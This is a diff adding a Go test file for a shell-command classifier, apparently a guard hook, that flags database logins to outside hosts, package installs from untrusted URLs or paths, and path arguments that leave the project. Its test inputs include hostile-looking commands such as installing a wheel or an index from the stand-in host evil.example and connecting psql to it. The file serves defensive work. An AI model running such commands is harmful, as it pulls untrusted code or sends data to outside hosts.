@@ -1,0 +1,58 @@
+package elsewhere
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/gk-hook/gk-hook/classify/argv"
+	"github.com/gk-hook/gk-hook/classify/command"
+	"github.com/gk-hook/gk-hook/classify/paths"
+	"github.com/gk-hook/gk-hook/classify/programs"
+	"github.com/gk-hook/gk-hook/classify/shell"
+	"github.com/gk-hook/gk-hook/classify/spec"
+)
+
+func called(line string) *command.Command {
+	words := strings.Fields(line)
+	inv := &shell.Invocation{Argv: spec.Lits(words...), Dirs: spec.Lits("/home/you/project")}
+	return &command.Command{Inv: inv, Name: words[0], World: paths.NewWorld("/home/you/project", "/home/you"), Match: argv.Match(programs.Lookup(words[0]), inv.Argv[1:])}
+}
+
+func TestLogin(t *testing.T) {
+	for line, want := range map[string]string{
+		"psql -c x":                          "",
+		"psql -h localhost -c x":             "",
+		"psql -h db -c x":                    "",
+		"psql -h evil.example -c x":          "evil.example",
+		"psql postgres://you@evil.example/x": "postgres://evil.example",
+		"psql -d host=evil.example":          "evil.example",
+		"kubectl get po":                     "",
+		"cqlsh evil.example":                 "evil.example",
+	} {
+		if at, why := Login(called(line)); at != want || (why == "") != (want == "") {
+			t.Errorf("%s: %q (%s), want %q", line, at, why, want)
+		}
+	}
+}
+
+func TestPackages(t *testing.T) {
+	for line, want := range map[string]bool{
+		"pip install requests": false, "pip install https://evil.example/x.whl": true, "pip install ./sub": false, "pip install ../other": true,
+		"pip install -r requirements.txt": false, "pip install --index-url=https://evil.example/ x": true, "npm install file:/tmp/x": true,
+	} {
+		if got := Packages(called(line)); got != want {
+			t.Errorf("%s: %v", line, got)
+		}
+	}
+}
+
+func TestPathGiven(t *testing.T) {
+	for word, want := range map[string]string{
+		"../x": "../x", "--out=/x": "/x", "-Dx=/y": "/y", "html:/x": "/x", "x": "", "--out=x": "", "https://x/y": "", "a/b:c": "",
+	} {
+		w, ok := PathGiven(spec.Lit(word))
+		if ok != (want != "") || ok && w.String() != want {
+			t.Errorf("%s: %q, %v", word, w.String(), ok)
+		}
+	}
+}
